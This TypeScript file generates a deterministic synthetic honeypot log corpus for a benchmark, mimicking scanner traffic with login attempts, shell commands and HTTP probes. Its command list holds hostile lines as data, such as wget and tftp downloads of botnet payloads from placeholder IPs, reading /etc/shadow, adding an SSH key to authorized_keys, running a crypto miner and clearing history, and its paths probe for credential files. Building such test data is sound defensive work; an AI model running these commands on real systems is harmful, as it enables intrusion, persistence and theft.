// A deterministic synthetic honeypot log corpus for the benchmark: realistic vocabulary, skewed
// the way scanner traffic is (many logins and probes, few distinctive commands).
import { SERVICE_SLUGS } from '@decnet/core'
import type { LogEventInput } from '../src/types.ts'

function mulberry32(seed: number): () => number {
  let a = seed
  return () => {
    a = (a + 0x6d2b79f5) | 0
    let t = Math.imul(a ^ (a >>> 15), 1 | a)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

/** The catalogue's services, and one it does not know (a log keeps whatever service a decoy reported). */
const SERVICES = [...SERVICE_SLUGS, 'http_alt']
const USERS = [
  'root',
  'admin',
  'user',
  'test',
  'guest',
  'ubuntu',
  'pi',
  'oracle',
  'postgres',
  'mysql',
  'ftp',
  'git',
  'support',
  'administrator',
  'deploy',
  'jenkins',
  'hadoop',
  'nagios',
  'www',
  'backup',
  'operator',
  'demo',
  'web',
  'dev',
  'ansible',
  'centos',
  'debian',
  'vagrant',
  'docker',
  'minecraft',
  'steam',
  'teamspeak',
  'tomcat',
  'zabbix',
  'elastic',
  'kafka',
  'redis',
  'sa',
  'sysadmin',
  'service',
]
const COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo',
  'cat /etc/passwd',
  'id',
  'whoami',
  'w',
  'ls -la',
  'ps aux',
  'free -m',
  'nproc',
  'crontab -l',
  'history -c',
  'cd /tmp',
  'chmod +x x.sh',
  'wget http://198.51.100.23/bins/x.sh',
  'curl -O http://203.0.113.50/mirai.arm7',
  'busybox tftp -g -r m.sh 192.0.2.14',
  'echo -e "\\x41\\x42"',
  'rm -rf /tmp/*',
  'cat /etc/shadow',
  'lscpu',
  'df -h',
  'netstat -an',
  'ifconfig',
  'top -bn1',
  'last',
  'passwd',
  'mkdir .ssh',
  'echo ssh-rsa AAAAB3Nza >> .ssh/authorized_keys',
  'pkill -9 xmrig',
  './xmrig --donate-level 1',
  'sh bins.sh',
  'tftp 192.0.2.14 -c get t.sh',
  'shutdown -h now',
  'export HISTFILE=/dev/null',
  'unset HISTFILE',
]
const PATHS = [
  '/',
  '/admin',
  '/login',
  '/wp-login.php',
  '/xmlrpc.php',
  '/.env',
  '/.git/config',
  '/phpmyadmin/',
  '/cgi-bin/luci',
  '/boaform/admin/formLogin',
  '/HNAP1/',
  '/solr/admin/info/system',
  '/actuator/health',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/manager/html',
  '/api/v1/pods',
  '/owa/auth/logon.aspx',
  '/shell?cd+/tmp',
  '/setup.cgi',
  '/console/',
  '/robots.txt',
  '/favicon.ico',
  '/server-status',
  '/.aws/credentials',
]
const AGENTS = [
  'Mozilla/5.0 zgrab/0.x',
  'curl/7.68.0',
  'python-requests/2.31',
  'Go-http-client/1.1',
  'masscan/1.3',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
  'Nmap Scripting Engine',
  'Hello World',
  'l9explore/1.2.2',
]

export interface CorpusOptions {
  rows: number
  seed?: number
  /** Events are spread over the 30 days before this instant. */
  end?: Date
}

export function* generateCorpus(options: CorpusOptions): Generator<LogEventInput> {
  const random = mulberry32(options.seed ?? 42)
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T
  const end = (options.end ?? new Date('2026-11-25T00:00:00Z')).getTime()
  const span = 30 * 86_400_000
  const ips = Array.from(
    { length: 5000 },
    (_, i) => `${[198, 203, 192, 185][i % 4]}.${(i * 7) % 256}.${(i * 13) % 256}.${i % 251}`,
  )
  for (let i = 0; i < options.rows; i++) {
    const timestamp = new Date(end - span + Math.floor((i / options.rows) * span))
    const decky = `decky-${String(Math.floor(random() * 50)).padStart(2, '0')}`
    // Skewed: a few scanners send most traffic, a long tail sends a little.
    const attackerIp = ips[Math.floor(ips.length * random() ** 3)] as string
    const attackerPort = 1024 + Math.floor(random() * 60000)
    const kind = random()
    if (kind < 0.3) {
      const service = random() < 0.7 ? 'ssh' : 'telnet'
      const username = pick(USERS)
      const password = `${pick(USERS)}${Math.floor(random() * 500)}`
      yield {
        timestamp,
        decky,
        service,
        eventType: 'login_attempt',
        attackerIp,
        attackerPort,
        rawLine: `${service} login attempt username=${username} password=${password} from ${attackerIp}:${attackerPort}`,
        fields: { username, password },
      }
    } else if (kind < 0.45) {
      const command = pick(COMMANDS)
      yield {
        timestamp,
        decky,
        service: 'ssh',
        eventType: 'command',
        attackerIp,
        attackerPort,
        rawLine: `ssh session command: ${command}`,
        fields: { command, username: pick(USERS) },
      }
    } else if (kind < 0.75) {
      const method = random() < 0.8 ? 'GET' : 'POST'
      const path = pick(PATHS)
      const userAgent = pick(AGENTS)
      yield {
        timestamp,
        decky,
        service: random() < 0.6 ? 'http' : 'https',
        eventType: 'request',
        attackerIp,
        attackerPort,
        rawLine: `${method} ${path} HTTP/1.1 user-agent="${userAgent}"`,
        fields: { method, path, user_agent: userAgent },
      }
    } else {
      const service = pick(SERVICES)
      yield {
        timestamp,
        decky,
        service,
        eventType: 'connect',
        attackerIp,
        attackerPort,
        rawLine: `${service} connection from ${attackerIp}:${attackerPort} bytes=${Math.floor(random() * 4096)}`,
        fields: { bytes: Math.floor(random() * 4096) },
      }
    }
  }
}
